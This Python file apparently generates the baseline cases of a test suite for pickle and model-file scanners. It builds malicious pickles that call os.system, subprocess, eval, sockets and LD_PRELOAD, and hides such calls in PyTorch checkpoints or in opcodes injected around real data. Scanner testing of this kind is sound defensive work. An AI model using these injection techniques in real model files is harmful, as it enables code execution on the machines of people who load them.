"""The plain attack, which any scanner must see: one call, every protocol, usual callees."""

from making.pickles import DATA, Call, G, Put, Seq, dumps, enc, wrap
from making.torches import legacy, legacy_tensor, state_pickle, tensor, torch_zip

FAMILY = "baseline"


def cases(c):
    """a01–a40."""
    for proto in range(6):
        c.pair(FAMILY, f"a0{proto}", f"protocol-{proto}", "pkl", lambda p, n=proto: dumps(p.node, n),
               what=f"os.system, protocol {proto}")
        c.pair(FAMILY, f"a1{proto}", f"in-data-protocol-{proto}", "pkl",
               lambda p, n=proto: dumps({**DATA, "hook": Put(0, p.node)}, n), what=f"os.system inside data, protocol {proto}")
    code = "__import__('os').system('echo pwned')"
    callees = [
        ("posix", "system", ("echo pwned",)), ("nt", "system", ("echo pwned",)),
        ("subprocess", "Popen", (["echo", "pwned"],)), ("subprocess", "check_output", (["echo", "pwned"],)),
        ("subprocess", "run", (["echo", "pwned"],)), ("subprocess", "call", ("echo pwned",)),
        ("os", "popen", ("echo pwned",)), ("os", "execvp", ("echo", ["echo", "pwned"])),
        ("os", "spawnlp", (0, "echo", "echo", "pwned")), ("os", "posix_spawn", ("/bin/echo", ["echo", "pwned"], {})),
        ("builtins", "eval", (code,)), ("builtins", "exec", (code,)), ("builtins", "compile", (code, "x", "exec")),
        ("builtins", "__import__", ("antigravity",)), ("builtins", "open", ("/tmp/pwned", "w")),
        ("builtins", "getattr", (G("os", "system"), "__call__")), ("builtins", "breakpoint", ()),
        ("builtins", "input", ("echo pwned",)), ("webbrowser", "open", ("http://127.0.0.1:9/",)),
        ("socket", "socket", ()), ("socket", "create_connection", (("127.0.0.1", 9),)),
        ("requests.api", "get", ("http://127.0.0.1:9/",)), ("http.client", "HTTPSConnection", ("127.0.0.1",)),
        ("shutil", "copyfile", ("/tmp/a", "/tmp/b")), ("runpy", "run_path", ("/tmp/pwned.py",)),
        ("pty", "spawn", (["/bin/echo", "pwned"],)), ("asyncio.subprocess", "create_subprocess_shell", ("echo pwned",)),
        ("importlib", "reload", (G("os", "path"),)), ("sys", "exit", ("echo pwned",)), ("os", "_exit", (0,)),
        ("os", "remove", ("/tmp/pwned",)), ("os", "putenv", ("LD_PRELOAD", "/tmp/x.so")),
    ]
    for i, (module, name, args) in enumerate(callees):
        proto = (0, 2, 4, 3, 5, 1)[i % 6]
        if proto < 3 and module == "builtins":
            proto = 4
        twin = Call(G("collections", "deque"), [repr(a) if not isinstance(a, (str, int)) else a for a in args] or ["x"])
        c.add(FAMILY, f"a{20 + i}", f"{module.replace('.', '-')}-{name.strip('_').lower().replace('_', '')}", "pkl",
              dumps(Call(G(module, name), *args), proto), dumps(twin, proto), what=f"{module}.{name}")
    c.pair(FAMILY, "a60", "torch-legacy", "pth",
           lambda p: legacy(dumps(Seq(p.node, {"weight": legacy_tensor()}), 2)), what="legacy torch file, call before the state")
    c.pair(FAMILY, "a61", "torch-zip", "pth", lambda p: torch_zip(state_pickle(p.node)), what="torch zip, call before the state")
    c.pair(FAMILY, "a62", "torch-zip-after", "pt",
           lambda p: torch_zip(dumps({"weight": tensor(), "hook": p.node}, 2)), what="torch zip, call among the weights")
    c.pair(FAMILY, "a63", "torch-zip-optimizer", "ckpt",
           lambda p: torch_zip(dumps({"state_dict": {"w": tensor()}, "epoch": 3, "optimizer_states": [
               {"state": {}, "param_groups": [{"lr": 0.001, "params": [0]}], "hook": p.node}]}, 2)),
           what="deep in a training checkpoint")
    c.pair(FAMILY, "a64", "prepended-opcodes", "pkl",
           lambda p: b"\x80\x02" + enc(p.node, 2) + b"0" + dumps(DATA, 2)[2:], what="opcodes injected in front of a real pickle")
    c.pair(FAMILY, "a65", "appended-opcodes", "pkl",
           lambda p: dumps(DATA, 2)[:-1] + b"0" + enc(p.node, 2) + b"0N.", what="opcodes injected before STOP")
    c.pair(FAMILY, "a66", "result-replaced", "pkl",
           lambda p: wrap(enc(p.node, 4) + b"0" + enc(DATA, 4), 4), what="the object loads as expected, the call ran before")
